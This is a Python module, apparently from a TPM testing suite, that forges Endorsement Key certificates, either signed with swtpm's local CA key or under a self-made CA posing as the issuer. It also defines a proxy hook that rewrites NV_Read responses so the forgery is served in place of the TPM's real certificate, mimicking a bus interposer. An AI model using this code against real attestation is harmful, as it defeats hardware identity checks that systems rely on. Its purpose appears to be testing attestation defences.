"""Forged EK certificates, and an interposer that serves one in place of the TPM's.

The EK certificate index is platform-created and write-locked
(TPMA_NV_PLATFORMCREATE | TPMA_NV_WRITEDEFINE, written by swtpm_setup), so the
forgery reaches the client the way a bus attacker would deliver it: by
rewriting the NV_Read responses of that index. The forged DER is zero-padded
to the index's size, as a manufacturer's certificate may be, so
NV_ReadPublic (and the index Name) stays genuine.
"""

from __future__ import annotations

import datetime
import re
from dataclasses import dataclass
from pathlib import Path

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.x509.oid import NameOID

from tpmseal.records import replace
from tpmseal.sniff.capture.hooks import HookContext, Verdict, parse_response, success_response
from tpmseal.wire import commands as cmds
from tpmseal.wire.constants import TPM_CC

IssuerKey = rsa.RSAPrivateKey | ec.EllipticCurvePrivateKey
SubjectKey = rsa.RSAPublicKey | ec.EllipticCurvePublicKey


def ca_signing_key(ca_dir: Path) -> rsa.RSAPrivateKey:
    """swtpm_localca's intermediate key (signkey.pem: a GnuTLS text dump, then the PEM)."""
    text = (ca_dir / "signkey.pem").read_text()
    m = re.search(r"-----BEGIN ([A-Z ]+)-----.*?-----END \1-----", text, re.S)
    assert m is not None, "no PEM block in signkey.pem"
    key = serialization.load_pem_private_key(m.group(0).encode(), password=None)
    assert isinstance(key, rsa.RSAPrivateKey)
    return key


def issuer_name(ca_dir: Path) -> x509.Name:
    """Subject of the certificate that signs EK certificates (ca/issuercert.pem)."""
    return x509.load_pem_x509_certificate((ca_dir / "issuercert.pem").read_bytes()).subject


def make_cert(subject_key: SubjectKey, issuer: x509.Name, issuer_key: IssuerKey,
              subject: str = "forged EK") -> bytes:
    """A DER certificate for *subject_key*, issued under *issuer* and signed by *issuer_key*."""
    now = datetime.datetime.now(datetime.timezone.utc)
    cert = (x509.CertificateBuilder()
            .subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, subject)]))
            .issuer_name(issuer)
            .public_key(subject_key)
            .serial_number(x509.random_serial_number())
            .not_valid_before(now - datetime.timedelta(days=1))
            .not_valid_after(now + datetime.timedelta(days=365))
            .sign(issuer_key, hashes.SHA256()))
    return cert.public_bytes(serialization.Encoding.DER)


def own_ca(name: x509.Name) -> tuple[ec.EllipticCurvePrivateKey, bytes]:
    """An attacker's self-signed CA that calls itself *name*; returns key and PEM."""
    key = ec.generate_private_key(ec.SECP256R1())
    now = datetime.datetime.now(datetime.timezone.utc)
    cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name)
            .public_key(key.public_key()).serial_number(x509.random_serial_number())
            .not_valid_before(now - datetime.timedelta(days=1))
            .not_valid_after(now + datetime.timedelta(days=365))
            .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
            .sign(key, hashes.SHA256()))
    return key, cert.public_bytes(serialization.Encoding.PEM)


@dataclass
class CertSwap:
    """Proxy response hook: NV_Read of *index* returns slices of *der* (zero-padded)."""

    index: int
    der: bytes
    served: int = 0

    def __call__(self, ctx: HookContext) -> Verdict:
        if ctx.code != TPM_CC.NV_Read or ctx.response is None or ctx.response[6:10] != bytes(4):
            return None
        cmd, _ = ctx.parse()
        assert isinstance(cmd, cmds.NV_Read)
        if cmd.nv_index != self.index:
            return None
        resp, auths = parse_response(ctx.response, ctx.command)
        assert isinstance(resp, cmds.NV_ReadResponse)
        padded = self.der.ljust(cmd.offset + cmd.size, b"\0")
        self.served += 1
        return success_response(replace(resp, data=padded[cmd.offset : cmd.offset + cmd.size]),
                                auths)
